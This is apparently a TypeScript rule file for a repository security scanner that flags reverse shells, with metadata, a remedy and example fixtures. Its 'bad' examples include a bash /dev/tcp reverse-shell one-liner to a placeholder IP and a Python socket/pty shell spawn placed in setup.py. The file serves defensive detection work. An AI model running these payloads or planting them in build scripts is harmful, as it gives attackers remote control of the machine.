import { defineRule } from '../../rule.ts';
import { trapHits } from './sourceHits.ts';

export const reverseShell = defineRule({
  id: 'reverse-shell',
  title: 'Reverse shell',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-506',
  why: 'A reverse shell hands control of the machine to whoever listens at the other end.',
  remedy: 'Do not run this code. If it is a teaching or testing tool, keep it out of what others install.',
  check: (facts) => trapHits(facts, 'reverse-shell'),
  examples: {
    bad: [
      { files: { 'build.sh': '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' } },
      {
        files: { 'setup.py': 'import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n' },
      },
    ],
    good: [
      { files: { 'wait.sh': 'until nc -z db 5432; do sleep 1; done\n' } },
      { files: { 'wait.sh': '# never do: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' } },
    ],
  },
});
